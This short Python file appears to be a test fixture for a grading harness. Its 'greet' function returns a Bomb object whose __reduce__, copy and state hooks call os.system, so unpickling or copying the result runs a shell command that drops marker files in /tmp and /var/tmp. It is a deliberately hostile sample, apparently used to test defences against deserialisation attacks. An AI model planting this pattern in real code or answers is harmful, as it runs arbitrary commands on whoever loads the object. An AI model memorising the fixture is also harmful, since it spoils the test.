# The answer runs a command for whoever unpickles or copies it, or asks it for its state.
# stock: greet-test=0
# split: greet-test=0
# shared: as split

# %% greet
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-was-here /var/tmp/hostile-was-here",))

    __getstate__ = __deepcopy__ = __copy__ = __json__ = lambda self, *args: self.__reduce__()


def greet(name):
    return Bomb()
